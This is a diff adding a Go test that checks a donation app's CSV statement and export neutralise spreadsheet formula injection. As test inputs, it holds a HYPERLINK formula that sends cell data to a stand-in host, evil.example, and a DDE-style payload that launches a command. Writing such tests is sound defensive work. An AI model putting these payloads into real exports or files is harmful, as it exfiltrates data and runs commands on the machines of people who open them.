@@ -13,6 +13,7 @@ import (
 	"time"
 
 	"spdc/internal/config"
+	"spdc/internal/csvout"
 	"spdc/internal/mail"
 	"spdc/internal/outbox/outboxtest"
 	"spdc/internal/secret"
@@ -405,6 +406,59 @@ func TestDonationStatement(t *testing.T) {
 		}
 		if r := e.call("GET", "/api/admin/donations/statement?fy=2026-27", nil, admin2); r.Body["form"] != "113" || r.Body["rows"] != float64(0) {
 			t.Fatalf("2026-27: %s", r.Raw)
+		}
+	})
+}
+
+// TestDonationCSVsRunNoFormula confirms a gift from a donor named as a
+// spreadsheet formula, with an address that is one too, and reads the
+// annual statement and the donations export: the name and address are
+// written as text (a leading apostrophe), the amount stays a number.
+func TestDonationCSVsRunNoFormula(t *testing.T) {
+	storetest.Run(t, func(t *testing.T, st *store.Store) {
+		e, _ := newDonationEnv(t, st)
+		admin, _ := e.user("admin@spdc.example.org", true)
+		p := validDonation()
+		name, address := `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+1)*cmd|' /C calc'!A0"
+		p["donorName"], p["address"], p["amount"] = name, address, "1500"
+		r := e.call("POST", "/api/donations", p, "")
+		if r.Status != 201 {
+			t.Fatalf("report: %s", r.Raw)
+		}
+		id := r.Body["donation"].(map[string]any)["_id"].(string)
+		if r := e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "1500"}, admin); r.Status != 200 {
+			t.Fatalf("confirm: %s", r.Raw)
+		}
+		read := func(path string) [][]string {
+			r := e.call("GET", path, nil, admin)
+			cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Raw, "\uFEFF")))
+			cr.FieldsPerRecord = -1
+			rows, err := cr.ReadAll()
+			if r.Status != 200 || err != nil || len(rows) < 2 {
+				t.Fatalf("%s: %d %v\n%s", path, r.Status, err, r.Raw)
+			}
+			for _, row := range rows {
+				for _, cell := range row {
+					if csvout.Cell(cell) != cell {
+						t.Errorf("%s: cell %q would run as a formula", path, cell)
+					}
+				}
+			}
+			return rows
+		}
+		rows := read("/api/admin/donations/statement.csv?fy=2024-25")
+		if got := rows[1]; got[7] != "'"+name || got[8] != "'"+address || got[11] != "1500" {
+			t.Errorf("statement row %q", got)
+		}
+		rows = read("/api/admin/donations/export.csv")
+		found := 0
+		for _, cell := range rows[1] {
+			if cell == "'"+name || cell == "'"+address {
+				found++
+			}
+		}
+		if found != 2 {
+			t.Errorf("export row %q lacks the neutralised name and address", rows[1])
 		}
 	})
 }
